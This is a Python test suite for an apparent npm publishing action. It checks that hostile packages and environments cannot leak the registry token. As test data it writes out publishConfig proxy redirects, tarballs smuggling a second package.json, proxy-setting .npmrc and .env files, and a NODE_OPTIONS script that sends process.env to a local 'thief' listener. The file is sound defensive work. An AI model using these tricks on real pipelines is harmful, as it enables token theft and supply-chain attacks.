"""Hostile packages and repositories against the real npm with a token: it reaches the registry, and nobody else.

Each trick is tried twice: on npm as a person runs it (or on ours without the look at the package), where the thief
gets the token, and on the channel, where he hears nothing.
"""

from __future__ import annotations

import json
import subprocess
import tarfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from types import SimpleNamespace

import pytest

from chittyactions.cancel import Cancellation
from chittyactions.entries.package_publish import Step
from chittyactions.errors import ArtifactError, ConfigError
from chittyactions.publish import npm_cli, npm_tarball
from chittyactions.publish.model import Status
from chittyactions.publish.npm_cli import NpmSession
from chittyactions.publish.npm_unpack import check_unpacking
from chittyactions.publish.package_json import judge_package
from chittylocal import Local
from publish.npm.packages import ENVIRONMENT, Publisher, package, release, tarball, the_npm
from publish.npm.thief import Thief
from publish.npm.thief import thief as listening

pytestmark = pytest.mark.engines


@pytest.fixture
def thief() -> Iterator[Thief]:
    """Hears nothing, if all is well."""
    with listening() as one:
        yield one


def a_person_publishes(publisher: Publisher, data: bytes, folder: Path, registry: str = "", **environ: str) -> str:
    """`npm publish` of a tarball in `folder`, with the token in the user's npmrc, as pages on the web have it."""
    registry = registry or publisher.local.npm.url
    home = folder.parent / "home"
    folder.mkdir(parents=True, exist_ok=True)
    home.mkdir(exist_ok=True)
    host = registry.partition("//")[2]
    (home / ".npmrc").write_text(f"//{host}:_authToken={publisher.local.npm_token}\n", "utf-8")
    (folder / "it.tgz").write_bytes(data)
    command = the_npm().command("publish", "./it.tgz", "--registry", registry, "--ignore-scripts", "--tag=latest")
    env = {"PATH": ENVIRONMENT["PATH"], "HOME": str(home), "CI": "true", "npm_config_fetch_retries": "0", **environ}
    done = subprocess.run(command, cwd=folder, env=env, capture_output=True, text=True, timeout=60, check=False)
    return done.stdout + done.stderr


PUBLISH_CONFIGS: dict[str, Callable[[str], dict[str, object]]] = {
    "proxy": lambda url: {"proxy": url},
    "https-proxy": lambda url: {"https-proxy": url, "strict-ssl": False},
    "registry of the scope": lambda url: {"@chittyos:registry": url},
}
"""What a package can say of publishing, each of which takes something away."""


@pytest.mark.parametrize("trick", PUBLISH_CONFIGS)
def test_publish_config(publisher: Publisher, thief: Thief, tmp_path: Path, trick: str) -> None:
    """npm sends the token by these, or GitHub's id token to the thief as its registry; the channel refuses them."""
    secure = trick == "https-proxy"
    registry = f"{publisher.local.tls_url}/npm/" if secure else publisher.local.npm.url
    config = PUBLISH_CONFIGS[trick](thief.url)
    data = package("1.0.0", name=publisher.name, publishConfig=config)
    job = {"GITHUB_ACTIONS": "true", **publisher.local.env("oidc")} if trick == "registry of the scope" else {}
    job |= {"NODE_EXTRA_CA_CERTS": str(publisher.local.ca_file)} if secure else {}
    a_person_publishes(publisher, data, tmp_path / "repo", registry, **job)
    assert thief.stole("Bearer ey" if job and not secure else publisher.local.npm_token)
    thief.heard.clear()
    with pytest.raises(ConfigError, match="publishConfig is refused"):
        publisher.publish("1.0.0", fields={"publishConfig": config}, registry=registry)
    assert thief.heard == []


def test_the_refusal_is_needed(
    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Our own npm, in its clean folder with a registry named, follows a package's proxy all the same."""
    monkeypatch.setattr(npm_cli, "PINNED", ())
    data = package("1.0.0", name=publisher.name, publishConfig={"proxy": thief.url})
    raw_publish(publisher, data, tmp_path)
    assert thief.stole(publisher.local.npm_token)


@pytest.mark.parametrize("trick", PUBLISH_CONFIGS)
def test_the_second_wall(publisher: Publisher, thief: Thief, tmp_path: Path, trick: str) -> None:
    """Should a package slip through our look at it, what npm is told goes before what the package says."""
    secure = trick == "https-proxy"
    registry = f"{publisher.local.tls_url}/npm/" if secure else publisher.local.npm.url
    data = package("1.0.0", name=publisher.name, publishConfig=PUBLISH_CONFIGS[trick](thief.url))
    environ = {**ENVIRONMENT, "NODE_EXTRA_CA_CERTS": str(publisher.local.ca_file)}
    raw_publish(publisher, data, tmp_path, registry, environ)
    assert thief.heard == []
    assert publisher.versions == ["1.0.0"]


def raw_publish(
    publisher: Publisher, data: bytes, temp: Path, registry: str = "", environ: Mapping[str, str] = ENVIRONMENT
) -> None:
    """Our npm without our look at the package."""
    file = temp / "raw.tgz"
    file.write_bytes(data)
    with NpmSession(
        the_npm(), registry=registry or publisher.local.npm.url, scope="@chittyos", token=publisher.local.npm_token,
        provenance=False, environ=environ, temp=temp, redact=lambda text: text, seconds=20,
    ) as session:  # fmt: skip
        session.publish(file, tag="latest", access="")


Members = list[tuple[tarfile.TarInfo, bytes]]


def member(path: str, content: bytes, kind: bytes = tarfile.REGTYPE) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(path)
    info.type = kind
    return info, content


TARBALLS: dict[str, Callable[[bytes, bytes], Members]] = {
    "a second one": lambda good, evil: [member("package/package.json", good), member("package/package.json", evil)],
    "another folder": lambda good, evil: [member("package/package.json", good), member("evil/package.json", evil)],
    "a dot": lambda good, evil: [member("package/package.json", good), member("package/./package.json", evil)],
    "two slashes": lambda good, evil: [member("package/package.json", good), member("package//package.json", evil)],
    "an old kind of file": lambda good, evil: [
        member("package/package.json", good),
        member("package/package.json", evil, tarfile.CONTTYPE),
    ],
    "a drive letter": lambda good, evil: [
        member("package/package.json", good),
        member("package/c:package.json", evil),
    ],
}
"""Tarballs in which npm finds another package.json than the one at its usual place."""


@pytest.mark.parametrize("trick", TARBALLS)
def test_two_manifests(
    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trick: str
) -> None:
    """npm takes the last one, under whatever folder; such a tarball is refused before there is a token."""
    monkeypatch.setattr(npm_cli, "PINNED", ())
    good = json.dumps({"name": publisher.name, "version": "1.0.0"}).encode()
    evil = json.dumps({"name": publisher.name, "version": "1.0.0", "publishConfig": {"proxy": thief.url}}).encode()
    data = tarball(TARBALLS[trick](good, evil))
    raw_publish(publisher, data, tmp_path)
    assert thief.stole(publisher.local.npm_token)
    thief.heard.clear()
    made = release(tmp_path / "f", data, "1.0.0", publisher.name)
    with pytest.raises(ArtifactError, match="tarball is refused"):
        judge_package(made.tarball.path, name=made.name, version="1.0.0", registry_url=publisher.local.npm.url)
    with pytest.raises(ArtifactError, match="tarball is refused"):
        publisher.channel().publish(made, dry_run=False)
    assert thief.heard == []


@pytest.mark.parametrize("path", ["package/c:package.json", "evil/package.json"])
def test_npm_itself_is_asked(
    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    """A path that our own look passes over is found by npm's code, before npm is given the token."""
    monkeypatch.setattr(npm_cli, "PINNED", ())
    monkeypatch.setattr(npm_tarball, "_judge_path", lambda *_: None)
    good = json.dumps({"name": publisher.name, "version": "1.0.0"})
    evil = json.dumps({"name": publisher.name, "version": "1.0.0", "publishConfig": {"proxy": thief.url}})
    made = release(tmp_path / "f", tarball({"package/package.json": good, path: evil}), "1.0.0", publisher.name)
    with pytest.raises(ArtifactError, match="npm that publishes finds another"):
        publisher.channel().publish(made, dry_run=False)
    assert thief.heard == []
    assert publisher.versions == []


def test_the_check_asks_npm_too(publisher: Publisher, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What npm reads is looked at in the phase that comes before every credential."""
    monkeypatch.setattr(npm_tarball, "_judge_path", lambda *_: None)
    good = json.dumps({"name": publisher.name, "version": "1.0.0"})
    data = tarball({"package/package.json": good, "package/c:/package.json": good + " "})
    runner = SimpleNamespace(environ={**ENVIRONMENT, "RUNNER_TEMP": str(publisher.temp)}, info=publisher.said.append)
    step = Step(runner, SimpleNamespace(registry_url=publisher.local.npm.url), Cancellation())  # type: ignore[arg-type]
    with pytest.raises(ArtifactError, match="npm that publishes finds another"):
        step._check_npm(release(tmp_path / "f", data, "1.0.0", publisher.name))
    step._check_npm(publisher.release("1.0.0"))


def test_a_package_that_npm_cannot_unpack(tmp_path: Path) -> None:
    """Where npm's own code ends with an error, its words are shown."""
    file = tmp_path / "it.tgz"
    file.write_bytes(tarball({"package/package.json": "{"}))
    with pytest.raises(ArtifactError, match=r"npm that publishes cannot unpack it: .*JSON"):
        check_unpacking(the_npm(), file, environ=ENVIRONMENT, temp=tmp_path)


def test_npmrc_above(publisher: Publisher, thief: Thief, tmp_path: Path) -> None:
    """A project above the folder that npm works in, with an .npmrc of its own: followed by npm, and not by ours."""
    (tmp_path / "package.json").write_text('{"name": "above", "workspaces": ["temp/*/*"]}', "utf-8")
    (tmp_path / ".npmrc").write_text(f"proxy={thief.url}\n", "utf-8")
    (tmp_path / ".env").write_text(f"npm_config_proxy={thief.url}\nHTTP_PROXY={thief.url}\n", "utf-8")
    a_person_publishes(publisher, package("1.0.0", name=publisher.name), tmp_path / "repo" / "deep")
    assert thief.stole(publisher.local.npm_token)
    thief.heard.clear()
    assert publisher.publish("1.0.0").status is Status.PUBLISHED
    assert thief.heard == []


@pytest.mark.parametrize("trick", ["npm_config_proxy", "npm_config_userconfig", "NODE_OPTIONS"])
def test_the_jobs_environment(publisher: Publisher, thief: Thief, tmp_path: Path, trick: str) -> None:
    """What an earlier step left in the environment steers npm as a person runs it, and not the channel's."""
    (tmp_path / "rc").write_text(
        f"proxy={thief.url}\n//{publisher.local.npm.url.partition('//')[2]}:_authToken=t0ken\n"
    )
    script = tmp_path / "evil.cjs"
    script.write_text(
        f"const a = JSON.stringify(process.env) + require('fs').existsSync(process.env.HOME + '/.npmrc')\n"
        f"if (process.argv[2] === 'publish') fetch({thief.url!r}, {{ headers: {{ env: encodeURIComponent(a) }} }})\n",
        "utf-8",
    )
    value = {"npm_config_proxy": thief.url, "NODE_OPTIONS": f"--require={script}"}.get(trick, str(tmp_path / "rc"))
    a_person_publishes(publisher, package("1.0.0", name=publisher.name), tmp_path / "repo", **{trick: value})
    assert thief.heard, "the trick doesn't work at all"
    thief.heard.clear()
    publisher.environ[trick] = value
    assert publisher.publish("1.1.0").status is Status.PUBLISHED
    assert thief.heard == []


def test_npmrc_in_the_package(publisher: Publisher, thief: Thief, tmp_path: Path) -> None:
    """Files of the package that steer npm elsewhere are content, and nothing more."""
    data = tarball(
        {
            "package/package.json": json.dumps({"name": publisher.name, "version": "1.0.0"}),
            "package/.npmrc": f"proxy={thief.url}\n@chittyos:registry={thief.url}\n",
            "package/.env": f"npm_config_proxy={thief.url}\n",
        }
    )
    made = release(tmp_path / "f", data, "1.0.0", publisher.name)
    assert publisher.channel().publish(made, dry_run=False).status is Status.PUBLISHED
    assert thief.heard == []


def test_scripts_do_not_run(publisher: Publisher, tmp_path: Path) -> None:
    """No script of the package is started beside the token."""
    mark = tmp_path / "ran"
    scripts = dict.fromkeys(("prepublishOnly", "prepack", "prepare", "publish", "postpublish"), f"touch {mark}")
    assert publisher.publish("1.0.0", fields={"scripts": scripts}).status is Status.PUBLISHED
    assert not mark.exists()


def test_a_tarball_elsewhere_gets_no_token(publisher: Publisher, local: Local, thief: Thief, tmp_path: Path) -> None:
    """A registry that names an address of another host for its tarballs is asked there without the token."""
    publisher.publish("1.0.0")
    made = publisher.release("1.1.0")
    elsewhere = {
        "name": publisher.name,
        "dist-tags": {"latest": "1.1.0"},
        "versions": {"1.1.0": {"dist": {"integrity": made.integrity, "tarball": f"{thief.url}x.tgz"}}},
    }
    from chittylocal import Fault

    local.fault("npm", "GET", f"/{publisher.name}", Fault("status", status=200, body=elsewhere, skip=2))
    result = publisher.channel(wait_seconds=0.5).publish(made, dry_run=False)
    assert result.status is Status.UNKNOWN
    assert any(head.startswith("GET /x.tgz") for head in thief.heard)
    assert not thief.stole(local.npm_token)
